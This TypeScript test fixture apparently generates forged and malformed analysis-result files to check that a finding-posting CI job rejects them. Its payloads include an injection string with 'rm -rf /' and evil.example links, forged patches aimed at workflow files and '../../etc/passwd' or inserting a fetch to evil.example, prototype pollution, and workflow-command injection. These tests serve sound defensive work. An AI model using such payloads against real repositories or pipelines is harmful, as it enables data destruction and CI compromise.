// Result files as a stranger would hand them to a job that posts: made of an honest one, the same for every host.

type Result = ReturnType<typeof JSON.parse>;
type Change = (artifact: string) => string;

const changed =
  (change: (result: Result) => unknown): Change =>
  (artifact) =>
    JSON.stringify(change(JSON.parse(artifact)));

const withFirst = (part: object): Change =>
  changed((result) => ({ ...result, findings: [{ ...result.findings[0], ...part }] }));

/** What is no result at all. */
export const UNREADABLE: readonly (readonly [name: string, change: Change])[] = [
  ['no JSON', () => '{"schemaVersion":1,'],
  ['nothing', () => ''],
  ['a list', () => '[]'],
  ['another version', changed((result) => ({ ...result, schemaVersion: 2 }))],
  ['a field too many', changed((result) => ({ ...result, 'x\n::error::y': 1 }))],
  ['70 MB of text', () => `"${'a'.repeat(70 << 20)}"`],
  ['a million levels', () => `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`],
  [
    'levels where text belongs',
    (artifact) =>
      JSON.stringify(JSON.parse(artifact)).replace(
        '"rootCause":',
        `"rootCause":${'['.repeat(50_000)}${']'.repeat(50_000)},"x":`,
      ),
  ],
  [
    '__proto__ at the top',
    (artifact) => JSON.stringify(JSON.parse(artifact)).replace('{', '{"__proto__":{"polluted":1},'),
  ],
  ['an id that leads elsewhere', withFirst({ id: '../../x' })],
  ['an id of two lines', withFirst({ id: 'a\n::error::b' })],
  ['one id twice', changed((result) => ({ ...result, findings: [result.findings[0], result.findings[0]] }))],
  [
    'a line that is none',
    changed((result) => {
      const [first] = result.findings;
      return { ...result, findings: [{ ...first, location: { ...first.location, startLine: -1 } }] };
    }),
  ],
];

const ATTACK =
  'x -->\n<!-- assay:v1 k=summary id=- fp=- st=open cat=- tool=- body=- posted=- mac=- -->\n@octocat #1 fixes #2 https://evil.example ![a](https://evil.example/x.png)\n/close\n```suggestion\nrm -rf /\n```\n<img src=x>';
const SHOWN = new Set([
  ...['message', 'text', 'why', 'rootCause', 'remediation', 'description'],
  ...['ruleId', 'ruleName', 'name', 'quote'],
]);

/** The same attack in every text that people are shown. */
export const withAttack: Change = (artifact) =>
  JSON.stringify(
    JSON.parse(artifact, (key, value) =>
      typeof value === 'string' && SHOWN.has(key) && !(key === 'name' && value === 'assay') ? ATTACK : value,
    ),
  );

/** What is changed of a finding, and of its patch, so that a click would write something else. */
export const FORGED_PATCHES: readonly (readonly [name: string, finding: object, patch: object])[] = [
  ['a workflow', {}, { path: '.github/workflows/x.yml' }],
  ['a pipeline', {}, { path: '.gitlab-ci.yml' }],
  ['a path outside', {}, { path: '../../etc/passwd' }],
  ['a file that another hash fits', {}, { before: 'a'.repeat(64) }],
  ['another outcome than it is', {}, { after: 'b'.repeat(64) }],
  ['lines far away', {}, { edits: [{ startLine: 1, lines: 1, newText: 'process.exit()\n' }] }],
  ['a download', {}, { edits: [{ startLine: 5, lines: 1, newText: "fetch('https://evil.example');\n" }] }],
  ['text of other lines too', { location: { path: '../../etc/passwd' } }, { path: '../../etc/passwd' }],
];

export function withPatch(artifact: string, finding: object, patch: object): string {
  const forged = JSON.parse(artifact);
  const [first] = forged.findings.filter((each: { patch: unknown }) => each.patch !== null);
  Object.assign(first.patch, patch);
  const { location = {} } = finding as { location?: object };
  Object.assign(first.location, location);
  return JSON.stringify(forged);
}

/** As small as findings can be, so that many fit into a file. */
export function withFindings(artifact: string, count: number): string {
  const many = JSON.parse(artifact);
  const [one] = many.findings;
  const small = {
    ...{ ...one, patch: null, tools: [{ ...one.tools[0], results: [] }], flow: [], related: [] },
    ...{ fingerprints: {}, rootCause: null, remediation: null, message: '', refusedPatches: [] },
    verdict: { ...one.verdict, reasons: [{ code: 'REV.unknown', text: '', citations: [] }] },
  };
  many.findings = Array.from({ length: count }, (_, at) => ({ ...small, id: `f${at}` }));
  many.results = [];
  return JSON.stringify(many);
}
